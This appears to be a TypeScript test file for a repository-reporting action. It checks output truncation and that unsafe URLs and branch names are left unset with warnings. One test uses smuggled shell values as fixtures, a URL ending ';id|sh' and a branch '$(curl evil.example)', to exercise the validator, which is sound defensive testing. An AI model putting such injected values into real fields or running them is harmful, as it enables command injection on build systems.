// src/repos/report.ts: what the repos action outputs, and what it leaves unset and says why.
import { describe, expect, it } from 'vitest';
import type { SourceRepository } from '../../src/client/service-schemas.ts';
import { MAX_JSON_OUTPUT_CHARS, outputProblem } from '../../src/common/action-runtime.ts';
import { listOutputs, matchOutputs } from '../../src/repos/report.ts';

const INTEGRATION_ID = '7b3e9d1c-5a2f-4c8e-b6d4-0e9f8a7b6c52';

function repository(name: string, fields: Partial<SourceRepository> = {}): SourceRepository {
  return {
    host_integration_id: INTEGRATION_ID,
    id: 100_001,
    owner: 'acme',
    name,
    url: `https://sourcehost.example.com/acme/${name}`,
    default_branch: 'main',
    ...fields,
  };
}

describe('listOutputs', () => {
  it('holds every repository when they fit, and warns of nothing', () => {
    const repositories = [repository('a'), repository('b')];
    const listed = listOutputs(repositories);
    expect(JSON.parse(listed.outputs.repositories ?? '')).toEqual(repositories);
    expect(listed).toMatchObject({ listed: 2, outputs: { count: '2' } });
    expect(listed.warning).toBeUndefined();
  });

  it('judges the size by the text as written: a list that fits before escaping is cut, not dropped', () => {
    // Each U+2028 is one character in JSON.stringify's text and six once escaped for the output.
    const repositories = Array.from({ length: 100 }, (_, i) =>
      repository(`agent-${i}-${'\u2028'.repeat(200)}`),
    );
    expect(JSON.stringify(repositories).length).toBeLessThan(MAX_JSON_OUTPUT_CHARS);

    const { outputs, listed, warning } = listOutputs(repositories);
    const written = outputs.repositories ?? '';
    expect(outputProblem(written, true)).toBeUndefined();
    expect(listed).toBeGreaterThan(0);
    expect(listed).toBeLessThan(100);
    expect(JSON.parse(written)).toEqual(repositories.slice(0, listed));
    expect(outputs.count).toBe('100');
    expect(warning).toBe(
      `The repositories output holds the first ${listed} of 100 repositories; ${100 - listed} were left out, as the JSON of all would be longer than the 65536 characters an output may hold. Pick one with repository.`,
    );
  });
});

describe('matchOutputs', () => {
  it('outputs what a create request takes from a plain repository', () => {
    expect(matchOutputs(repository('agents', { default_branch: 'release/v2' }))).toEqual({
      outputs: {
        'repo-url': 'https://sourcehost.example.com/acme/agents',
        'default-branch': 'release/v2',
        'repo-id': '100001',
        'integration-id': INTEGRATION_ID,
      },
      warnings: [],
    });
  });

  it('leaves unset a URL or a branch a shell would act on, one warning each saying why', () => {
    const { outputs, warnings } = matchOutputs(
      repository('agents', {
        url: 'https://sourcehost.example.com/acme/agents;id|sh',
        default_branch: '$(curl evil.example)',
      }),
    );
    expect(outputs['repo-url']).toBeUndefined();
    expect(outputs['default-branch']).toBeUndefined();
    expect(outputs['repo-id']).toBe('100001');
    expect(warnings).toEqual([
      `Output repo-url is left unset: the repository's URL holds ";", which a shell would act on.`,
      `Output default-branch is left unset: the repository's default branch holds spaces or control characters.`,
    ]);
  });

  it('leaves unset a default branch git would not take', () => {
    const { outputs, warnings } = matchOutputs(repository('agents', { default_branch: '-main' }));
    expect(outputs['default-branch']).toBeUndefined();
    expect(warnings).toEqual([
      `Output default-branch is left unset: the repository's default branch starts with "-".`,
    ]);
  });
});
